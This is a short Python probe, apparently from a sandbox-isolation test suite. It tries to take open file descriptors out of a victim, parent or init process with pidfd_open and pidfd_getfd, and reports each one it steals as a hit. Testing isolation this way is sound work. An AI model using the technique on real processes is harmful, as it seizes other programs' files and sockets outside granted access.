# Takes an open file out of another process with pidfd_getfd.
# range: plain=root world=victim
import os

from common import call, facts, finish, hit

for pid in {facts["victim"], os.getppid(), 1 if os.getppid() < 2 else os.getppid()} - {0}:
    process, _ = call("pidfd_open", pid, 0)
    for number in (facts["victim_descriptor"], 0, 1):
        stolen, _ = call("pidfd_getfd", process, number, 0) if process >= 0 else (-1, 0)
        if stolen >= 0:
            hit(f"descriptor {number} of {pid}")
finish()
